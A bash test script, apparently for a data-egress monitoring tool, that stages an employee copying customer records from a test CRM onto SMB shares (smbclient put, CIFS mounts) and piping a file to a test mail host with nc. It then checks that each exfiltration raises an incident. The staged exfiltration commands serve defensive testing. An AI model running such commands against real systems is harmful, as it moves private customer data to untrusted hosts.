#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# A folder that lies on another machine, by SMB: an employee puts customer rows there with smbclient,
# and copies them to it where it is mounted. The servers are Samba's; one the policy calls a sink,
# one nobody knows, and one is the company's own.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
needs_programs smbclient
if [ ! -x /usr/sbin/smbd ]; then
	echo "1..0 # SKIP needs smbd"
	exit 0
fi
set_the_stage

smb_serves() { # HOST: $work/HOST, to whoever asks
	local own=$work/$1.smb

	install -d -o nobody "$work/$1"
	mkdir "$own"
	cat >"$own/smb.conf" <<-END
		[global]
		server role = standalone server
		map to guest = bad user
		smb ports = 445
		disable spoolss = yes
		load printers = no
		log file = $own/log
		private dir = $own
		lock directory = $own
		state directory = $own
		cache directory = $own
		pid directory = $own
		ncalrpc dir = $own/ncalrpc
		[desk]
		path = $work/$1
		guest only = yes
		read only = no
	END
	serve "$1" 445 /usr/sbin/smbd --foreground --configfile="$own/smb.conf"
}

# By root, so that the server's name is not just what she says.
smb_is_mounted() { # HOST NAME
	mkdir "$work/$2"
	nsenter --net=/run/netns/weir-employee mount -i -t cifs \
		-o "ip=${host_addresses[$1]},username=guest,password=,uid=$employee_uid,vers=3.1.1" \
		"//$1/desk" "$work/$2" 9>&- || give_up "SMB of $1 is mounted: $(dmesg | tail -n 5)"
	mounts+=("$work/$2")
	ln -s "$work/$2" "$home/$2"
}

arrived_at() { # HOST FILE
	then_it "the rows are on $1" test "$(stat -c %s "$work/$1/$2")" -eq "$rows"
}

# went_to NAME KIND: the incident to it, of as many bytes as the file had that was copied.
went_to() {
	soon "an egress to $1, which is $2" \
		incidents_say "any([(s['name'], s['kind']) for s in i['sinks']] == [('$1', '$2')] and i['bytes_out'] == $rows and i['bytes_certainty'] == 'exact' for i in d)"
}

crm_serves crm.test
store_serves mail.test 9000
for host in meet.test pan.test im.test backup.corp; do smb_serves "$host"; done
weir_watches

say "a client of its own puts the rows on a share, in a connection"
alice_does <<'END'
for number in 1 2 3 4 5; do
	curl -sS "https://crm.test/policy/P20207000$number" >>customers.json
done
smbclient --no-pass --command='put customers.json list.json' //im.test/desk >smbclient.log 2>&1
END
rows=$(stat -c %s "$home/customers.json")
arrived_at im.test list.json
soon "an egress to im.test: the rows and what the protocol says around them" \
	incidents_say "any([s['name'] for s in i['sinks']] == ['im.test'] and $rows <= i['bytes_out'] < $rows + 4096 and i['bytes_certainty'] == 'exact' for i in d)"

if ! grep -qw cifs /proc/filesystems; then
	ok "by a mount # SKIP this kernel has no cifs; those of \"make check-kernels\" have it"
	exit 0
fi
say "the kernel is the client, of a server that is a sink"
smb_is_mounted pan.test cloud
alice_does <<'END'
cp customers.json cloud/list.json
END
arrived_at pan.test list.json
went_to pan.test cloud

say "of one that nobody knows, and of the company's own"
smb_is_mounted meet.test share
smb_is_mounted backup.corp company
alice_does <<'END'
cp customers.json share/list.json
cp customers.json company/list.json
END
arrived_at meet.test list.json
went_to "SMB server meet.test" smb

say "what lies there is known when it is read again"
alice_does <<'END'
rm customers.json
nc -N mail.test 9000 <share/list.json
END
went_to mail.test mail
soon "the company's server was told, as inside" events_say \
	"sum(e['bytes'] for e in d if e['kind'] == 'flow' and e['direction'] == 'out' and str(e['object']['name']).endswith('/company/list.json') and e['object']['role'] == 'trusted') == $rows"
then_it "and is in no incident" incidents_say "len(d) == 4"
for folder in company share cloud; do umount "$work/$folder" && unset 'mounts[-1]'; done
then_every_stage_accounts_for_all_it_took
